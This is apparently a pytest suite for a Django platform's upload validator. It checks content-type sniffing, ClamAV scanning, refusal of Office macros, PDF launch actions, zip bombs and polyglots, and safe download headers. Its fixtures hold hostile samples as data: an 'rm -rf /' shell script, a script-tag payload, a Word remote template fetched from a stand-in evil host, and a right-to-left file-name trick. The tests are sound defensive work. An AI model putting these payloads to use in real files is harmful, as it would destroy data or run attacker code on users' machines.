"""Issue 9, uploads: ``gongkai.core.uploads`` — every file the platform accepts is checked by
content against its field's policy, made safe before it is stored, scanned by ClamAV when
configured, and served only as a download. Each test names the rule it proves; the forms
themselves are tested with the hostile-file set in ``tests/<app>/test_hostile_uploads.py``."""

from __future__ import annotations

import ast
import importlib
import io
import socket
import threading
import zipfile
from pathlib import Path

import pytest
from django.core.exceptions import ImproperlyConfigured
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings

import gongkai
from gongkai.core import uploads
from gongkai.core.uploads import (
    CITIZEN_ATTACHMENT,
    DOCUMENT_ATTACHMENT,
    EVIDENCE,
    WORKBOOK,
    UploadRefused,
    inspect_upload,
)
from tests.core.hostile import (
    EICAR,
    HOSTILE,
    fake_clamd,
    hostile_files,
    jpeg_with_gps,
    pdf,
    png,
    unreachable_clamd,
)


def check(name: str, content: bytes, policy=DOCUMENT_ATTACHMENT, **options):
    return inspect_upload(SimpleUploadedFile(name, content), policy=policy, **options)


def refusal(name: str, content: bytes, policy=DOCUMENT_ATTACHMENT) -> UploadRefused:
    with pytest.raises(UploadRefused) as refused:
        check(name, content, policy)
    return refused.value


def docx(*, extra: dict[str, bytes] | None = None, types: bytes = b"") -> bytes:
    """A minimal Word package python-docx opens, with ``extra`` parts."""
    import docx as python_docx

    buffer = io.BytesIO()
    python_docx.Document().save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "[Content_Types].xml" and types:
                data = data.replace(b"</Types>", types + b"</Types>")
            package.writestr(info, data)
        for name, data in (extra or {}).items():
            package.writestr(name, data)
    return out.getvalue()


# --------------------------------------------------------------------------- the hostile set


@pytest.mark.parametrize("hostile", HOSTILE, ids=lambda hostile: hostile.reason)
def test_each_hostile_file_is_refused_for_its_own_reason_under_every_attachment_policy(hostile):
    """Issue 9: the polyglot, the SVG with script, the zip bomb, EICAR, the program named .pdf,
    the PDF with JavaScript and the decompression bomb — each refused with its message."""
    content = {item.name: data for item, data in hostile_files()}[hostile.name]
    with fake_clamd() as address, override_settings(GONGKAI_CLAMAV=address):
        for policy in (DOCUMENT_ATTACHMENT, CITIZEN_ATTACHMENT, EVIDENCE):
            refused = refusal(hostile.name, content, policy)
            assert refused.reason == hostile.reason, policy.key
            assert hostile.words in refused.message and f"“{hostile.name}”" in refused.message


def test_eicar_is_refused_by_the_scanner_and_by_nothing_else():
    """Issue 9: the EICAR test file is harmless text. Without ClamAV configured it is accepted
    where plain text is (a letter's files) and refused only for its type elsewhere; with
    ClamAV it is refused as a virus everywhere."""
    accepted = check("eicar.txt", EICAR, CITIZEN_ATTACHMENT)
    assert accepted.content_type == "text/plain"
    assert refusal("eicar.txt", EICAR, DOCUMENT_ATTACHMENT).reason == uploads.NOT_ALLOWED
    with fake_clamd() as address, override_settings(GONGKAI_CLAMAV=address):
        refused = refusal("eicar.txt", EICAR, CITIZEN_ATTACHMENT)
    assert refused.reason == uploads.INFECTED
    assert "Eicar-Test-Signature" in refused.message


# --------------------------------------------------------------------------- ClamAV


def test_every_upload_is_streamed_to_clamd_and_a_clean_one_passes():
    """Issue 9: with GONGKAI_CLAMAV set, a file (here larger than one INSTREAM chunk) is
    scanned and a clean file accepted."""
    content = pdf() + b"%" + b"0" * 200_000 + b"\n"  # a PDF comment: still a PDF
    assert len(content) > 3 * uploads.CLAMD_CHUNK
    with fake_clamd() as address, override_settings(GONGKAI_CLAMAV=address):
        assert uploads.clamd_scan(content, address=address) is None
        assert uploads.clamd_scan(b"x" * 70_000 + EICAR, address=address) == "Eicar-Test-Signature"
        assert check("a.pdf", content).content_type == "application/pdf"


def test_uploads_are_refused_while_the_scanner_cannot_be_reached():
    """Issue 9: a configured scanner that is down refuses every upload ("try later"), never
    accepting it unscanned."""
    with override_settings(GONGKAI_CLAMAV=unreachable_clamd()):
        refused = refusal("a.png", png())
    assert refused.reason == uploads.SCANNER_UNAVAILABLE
    assert "Try again later" in refused.message


def test_a_scanner_that_hangs_up_or_answers_an_error_refuses_the_upload():
    server = socket.create_server(("127.0.0.1", 0))
    port = server.getsockname()[1]
    answers = [b"", b"INSTREAM size limit exceeded. ERROR\0"]

    def serve() -> None:
        for answer in answers:
            connection, _address = server.accept()
            with connection:
                connection.recv(65536)
                if answer:
                    connection.sendall(answer)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        with override_settings(GONGKAI_CLAMAV=f"tcp:127.0.0.1:{port}", GONGKAI_CLAMAV_TIMEOUT=5):
            for _answer in answers:
                assert refusal("a.png", png()).reason == uploads.SCANNER_UNAVAILABLE
    finally:
        thread.join(timeout=5)
        server.close()


def test_clamd_over_a_unix_socket(tmp_path):
    path = tmp_path / "clamd.ctl"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    server.listen(1)

    def serve() -> None:
        connection, _address = server.accept()
        with connection:
            received = b""
            while not received.endswith(b"\0\0\0\0"):
                received += connection.recv(65536)
            connection.sendall(b"stream: OK\0")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        assert uploads.clamd_scan(b"hello", address=f"unix:{path}") is None
    finally:
        thread.join(timeout=5)
        server.close()


def test_a_malformed_clamav_setting_stops_the_start(monkeypatch):
    """Misconfiguration is loud: the settings refuse an address that is neither unix: nor
    tcp:host:port (the module is read again with the variable set)."""
    import gongkai.settings as settings_module

    monkeypatch.setenv("GONGKAI_CLAMAV", "clamd.example.cn")
    with pytest.raises(ImproperlyConfigured, match="GONGKAI_CLAMAV"):
        importlib.reload(settings_module)
    monkeypatch.setenv("GONGKAI_CLAMAV", "tcp:clamd.example.cn:3310")
    assert importlib.reload(settings_module).GONGKAI_CLAMAV == "tcp:clamd.example.cn:3310"
    monkeypatch.delenv("GONGKAI_CLAMAV")
    importlib.reload(settings_module)


# --------------------------------------------------------------------------- type by content


def test_the_name_must_agree_with_the_content_and_a_missing_extension_is_given():
    """Issue 9: type by content; the claimed extension must agree (refused otherwise, or
    corrected where nobody can rename: the bulk import)."""
    refused = refusal("scan.pdf", png())
    assert refused.reason == uploads.EXTENSION_MISMATCH
    assert "Rename it to end in “.png”" in refused.message
    assert check("scan.pdf", png(), fix_extension=True).original_name == "scan.png"
    assert check("扫描件", png()).original_name == "扫描件.png"
    assert check("photo.JPEG", jpeg_with_gps()).content_type == "image/jpeg"


def test_programs_scripts_and_web_pages_are_refused_by_content_and_by_name():
    """Issue 9: HTML, SVG, XML, scripts and executables are refused on every field."""
    cases = [
        ("page.pdf", b"<!DOCTYPE html><html><body>x</body></html>", uploads.MARKUP),
        ("note.txt", b"  <html><script>alert(1)</script>", uploads.MARKUP),
        ("data.xml", b"plain words", uploads.MARKUP),  # by name
        ("run.txt", b"#!/bin/sh\nrm -rf /\n", uploads.PROGRAM),
        ("app.pdf", b"\x7fELF\x02\x01\x01" + b"\0" * 64, uploads.PROGRAM),
        ("invoice.pdf.exe", pdf(), uploads.PROGRAM),  # by name: the content is a fine PDF
        ("macro.pdf", b"\xcf\xfa\xed\xfe" + b"\0" * 64, uploads.PROGRAM),  # Mach-O
    ]
    for name, content, reason in cases:
        assert refusal(name, content, CITIZEN_ATTACHMENT).reason == reason, name


def test_each_policy_accepts_only_its_types():
    """Issue 9: allowed types per field — the workbook import takes XLSX only, documents take
    no plain text, letters do."""
    assert refusal("a.png", png(), WORKBOOK).reason == uploads.NOT_ALLOWED
    assert refusal("a.txt", "说明文字".encode("gb18030")).reason == uploads.NOT_ALLOWED
    assert refusal("a.zip", _zip({"a.txt": b"x"})).reason == uploads.NOT_ALLOWED
    old_word = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    assert refusal("a.doc", old_word).reason == uploads.OLD_OFFICE


def _zip(parts: dict[str, bytes], **options) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, **options) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return buffer.getvalue()


def test_size_limits_are_per_field_and_read_from_the_settings(settings):
    """Issue 9: size limits per field (settings); empty files are refused too."""
    settings.GONGKAI_UPLOAD_MAX_BYTES = {"citizen": 100}
    refused = refusal("a.pdf", pdf(), CITIZEN_ATTACHMENT)
    assert refused.reason == uploads.TOO_LARGE and "at most 100" in refused.message
    assert check("a.pdf", pdf(), EVIDENCE).size == len(pdf())  # its own default limit
    assert refusal("a.pdf", b"", EVIDENCE).reason == uploads.EMPTY


# --------------------------------------------------------------------------- structure


def test_office_files_with_macros_activex_or_remote_templates_are_refused():
    """Issue 9: macro-enabled content in a .docx is refused, however it is named."""
    macro_types = (
        b'<Override PartName="/word/document.xml" '
        b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    )
    remote = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm"'
        b' TargetMode="External"/></Relationships>'
    )
    for content in (
        docx(extra={"word/vbaProject.bin": b"\0" * 64}),
        docx(types=macro_types),
        docx(extra={"word/activeX/activeX1.xml": b"<ax/>"}),
        docx(extra={"word/_rels/settings.xml.rels": remote}),
    ):
        assert refusal("a.docx", content).reason == uploads.ACTIVE_CONTENT
    assert "python-docx" not in check("a.docx", docx()).text  # a plain one opens


def test_zip_bombs_are_refused_before_anything_inflates_them(monkeypatch):
    """Issue 9: total inflated size, inflation ratio and entry count of ZIP packages."""
    monkeypatch.setattr(uploads, "ZIP_MAX_ENTRIES", 50)
    many = _zip({f"word/{number}.xml": b"" for number in range(51)})
    assert refusal("many.docx", many).reason == uploads.ZIP_BOMB
    dense = _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"0" * (12 * 2**20)})
    assert refusal("dense.xlsx", dense, WORKBOOK).reason == uploads.ZIP_BOMB


def test_pdfs_with_launch_actions_forms_or_embedded_files_are_refused():
    """Issue 9: PDFs are opened with pypdf; JavaScript (however its name is escaped), launch
    actions, XFA forms and embedded files are refused; a plain PDF gives its text."""
    launch = pdf(b"/OpenAction 6 0 R", (b"<< /S /Launch /F (calc.exe) >>",))
    xfa = pdf(b"/AcroForm << /Fields [] /XFA 6 0 R >>", (b"<< /Length 0 >>\nstream\n\nendstream",))
    annotation_js = pdf(b"/Names << /J#61vaScript 6 0 R >>", (b"<< /Names [] >>",))
    embedded = pdf(b"/Names << /EmbeddedFiles 6 0 R >>", (b"<< /Names [] >>",))
    for content, reason in (
        (launch, uploads.PDF_ACTIVE),
        (xfa, uploads.PDF_ACTIVE),
        (annotation_js, uploads.PDF_ACTIVE),
        (embedded, uploads.PDF_EMBEDDED),
        (b"%PDF-1.4\nnot really a pdf", uploads.UNREADABLE),
    ):
        assert refusal("a.pdf", content).reason == reason
    assert check("a.pdf", pdf()).text.strip() == "Hello"


def test_web_page_code_appended_to_a_pdf_is_refused():
    """Issue 9: a polyglot PDF (a page after %%EOF, where a sniffing browser would find it)."""
    polyglot = pdf() + b"<html><script>alert(1)</script></html>"
    assert refusal("a.pdf", polyglot).reason == uploads.POLYGLOT


# --------------------------------------------------------------------------- made safe


def test_images_are_encoded_again_without_metadata_or_hidden_payloads():
    """Issue 9: images re-encoded with Pillow — a photo's GPS position, camera and comment go;
    data appended after the image goes; the pixels stay."""
    from PIL import Image

    photo = check("photo.jpg", jpeg_with_gps())
    assert b"SentinelCamera" in jpeg_with_gps() and b"SentinelComment" in jpeg_with_gps()
    assert b"SentinelCamera" not in photo.data and b"SentinelComment" not in photo.data
    assert not Image.open(io.BytesIO(photo.data)).getexif()

    payload = b"\0" * 2048 + b"PK\x03\x04 a hidden archive"  # beyond the sniffed kilobyte
    image = check("a.png", png((8, 8)) + payload)
    assert payload not in image.data
    assert (
        Image.open(io.BytesIO(image.data)).tobytes()
        == Image.open(io.BytesIO(png((8, 8)))).tobytes()
    )
    assert image.size == len(image.data)


def test_a_decompression_bomb_is_refused_before_decoding(settings):
    """Issue 9: the pixel limit (a setting) is checked on the header, before any decoding."""
    settings.GONGKAI_UPLOAD_MAX_PIXELS = 60
    refused = refusal("a.png", png((8, 8)))
    assert refused.reason == uploads.IMAGE_TOO_LARGE
    assert check("a.png", png((7, 7))).content_type == "image/png"


def test_text_is_stored_as_utf8_and_names_are_cleaned():
    """Plain text in GB18030 is stored as UTF-8; the stored name loses any path, control and
    right-to-left override characters (which make "exe.pdf" of "fdp.exe")."""
    text = check("说明.txt", "情况说明".encode("gb18030"), CITIZEN_ATTACHMENT)
    assert text.data.decode("utf-8") == "情况说明" and text.text == "情况说明"
    assert check("../../a\u202efdp.png", png()).original_name == "afdp.png"


# --------------------------------------------------------------------------- serving


def test_file_responses_are_downloads_with_nosniff_and_a_sandbox():
    """Issue 9: files are never served inline from the site's domain; unknown types are sent
    as octet-stream and plain text with its charset."""
    response = uploads.file_response(
        io.BytesIO(b"x"), filename="报告.pdf", content_type="application/pdf"
    )
    assert response["Content-Disposition"].startswith("attachment;")
    assert "filename*=UTF-8''%E6%8A%A5%E5%91%8A.pdf" in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert response["Cache-Control"] == "private, no-store"
    legacy = uploads.file_response(io.BytesIO(b"x"), filename="a.html", content_type="text/html")
    assert legacy["Content-Type"] == "application/octet-stream"
    text = uploads.file_response(io.BytesIO(b"x"), filename="a.txt", content_type="text/plain")
    assert text["Content-Type"] == "text/plain; charset=utf-8"
    public = uploads.file_response(
        io.BytesIO(b"x"), filename="a.pdf", content_type="application/pdf", private=False
    )
    assert "Cache-Control" not in public


def test_every_file_download_goes_through_file_response():
    """Issue 9: a new download view cannot forget the headers — no FileResponse is built
    anywhere but in ``core.uploads.file_response``."""
    package = Path(gongkai.__file__).parent
    builders = []
    for path in package.rglob("*.py"):
        source = path.read_text(encoding="utf-8")
        if "FileResponse" not in source or (path.name, path.parent.name) == ("uploads.py", "core"):
            continue
        for node in ast.walk(ast.parse(source)):
            if isinstance(node, ast.Call):
                called = node.func
                name = getattr(called, "id", None) or getattr(called, "attr", None)
                if name == "FileResponse":
                    builders.append(f"{path.relative_to(package)}:{node.lineno}")
    assert builders == []
